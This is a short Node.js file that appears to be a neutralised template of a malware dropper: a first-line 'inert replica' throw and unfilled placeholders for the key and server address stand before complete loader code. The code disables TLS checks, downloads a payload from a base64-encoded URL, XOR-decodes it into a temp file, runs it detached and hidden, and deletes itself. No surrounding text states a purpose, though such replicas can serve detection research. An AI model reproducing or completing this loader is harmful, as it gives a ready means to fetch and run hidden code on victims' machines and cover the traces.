throw new Error("inert replica");
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const { spawn } = require("child_process");
process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";
const K = [{{codes}}];
const T = (text) => text.split("").map((c, at) => String.fromCharCode(c.charCodeAt(0) ^ K[at % K.length])).join("");
const target = path.join(os.tmpdir(), Math.random().toString(36).slice(2) + ".cjs");
const marker = path.join(os.homedir(), ".replica_done");
https.get(Buffer.from("{{address}}", "base64").toString(), (answer) => {
  const parts = [];
  answer.on("data", (part) => parts.push(part));
  answer.on("end", () => {
    fs.writeFileSync(target, T(Buffer.concat(parts).toString("latin1")));
    fs.writeFileSync(marker, String(Date.now()));
    const child = spawn(process.execPath, [target], { detached: true, stdio: "ignore", windowsHide: true });
    child.unref();
    fs.unlinkSync(__filename);
  });
});
